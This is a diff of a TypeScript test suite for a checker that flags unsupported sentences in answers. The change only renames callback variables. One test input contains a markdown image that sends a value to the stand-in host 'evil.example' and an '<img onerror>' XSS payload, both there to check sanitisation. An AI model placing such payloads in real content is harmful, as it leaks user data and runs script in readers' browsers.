@@ -15,9 +15,9 @@ const check = async (text: string) => (await checkAnswer(text, grounds)).flat()
 describe('what is true', () => {
   it('is flagged in at most two of a hundred sentences', async () => {
     const all = (await Promise.all(trueAnswers.map(check))).flat()
-    const flagged = all.filter((it) => it.standing === 'unsupported')
+    const flagged = all.filter((entry) => entry.standing === 'unsupported')
     expect(all.length).toBeGreaterThan(65)
-    expect(flagged.map((it) => `${it.text} :: ${it.why}`)).toEqual([])
+    expect(flagged.map((entry) => `${entry.text} :: ${entry.why}`)).toEqual([])
   })
 })
 
@@ -25,7 +25,7 @@ describe('what is planted', () => {
   const lies = trueAnswers.flatMap((answer) => planted(answer))
 
   it('is there in every kind', () => {
-    const kinds = Map.groupBy(lies, (it) => it.kind)
+    const kinds = Map.groupBy(lies, (lie) => lie.kind)
     expect([...kinds].map(([kind, all]) => [kind, all.length > 3])).toEqual(
       ['quote', 'source', 'figure', 'measure', 'date', 'citation', 'name'].map((kind) => [kind, true]),
     )
@@ -34,7 +34,8 @@ describe('what is planted', () => {
   it('is caught, all of it', async () => {
     const missed: string[] = []
     for (const { kind, text } of lies)
-      if (!(await check(text)).some((it) => it.standing === 'unsupported')) missed.push(`${kind}: ${text}`)
+      if (!(await check(text)).some((entry) => entry.standing === 'unsupported'))
+        missed.push(`${kind}: ${text}`)
     expect(missed).toEqual([])
     expect(lies.length).toBeGreaterThan(150)
   })
@@ -42,11 +43,11 @@ describe('what is planted', () => {
 
 describe('answers by somebody who did not know the checks', () => {
   const flagged = async (answer: string) =>
-    (await check(answer)).filter((it) => it.standing === 'unsupported')
+    (await check(answer)).filter((entry) => entry.standing === 'unsupported')
 
   it('that are true are flagged in at most two of a hundred sentences', async () => {
     const sentences = (await Promise.all(blindTrue.map(check))).flat()
-    const wrongly = sentences.filter((it) => it.standing === 'unsupported')
+    const wrongly = sentences.filter((sentence) => sentence.standing === 'unsupported')
     expect(sentences.length).toBeGreaterThan(70)
     expect(wrongly.length / sentences.length).toBeLessThanOrEqual(0.02)
   })
@@ -129,7 +130,7 @@ describe('a sentence', () => {
     const told = await check(
       '## Rent\n**Base rent** is `$4,200` [2]. ![x](https://evil.example/p.png?d=4200) <img src=x onerror=alert(1)>',
     )
-    expect(told.map((it) => it.text)).toEqual([
+    expect(told.map((entry) => entry.text)).toEqual([
       'Rent',
       'Base rent is $4,200. x (https://evil.example/p.png?d=4200)',
     ])
@@ -138,6 +139,6 @@ describe('a sentence', () => {
 
   it('keeps its marks wherever they stand', async () => {
     const told = await check('It is $750. [2] Rent is $4,200 [2, 3]; it is late after five days [1-2].')
-    expect(told.map((it) => it.sources)).toEqual([[2], [2, 3, 1]])
+    expect(told.map((entry) => entry.sources)).toEqual([[2], [2, 3, 1]])
   })
 })
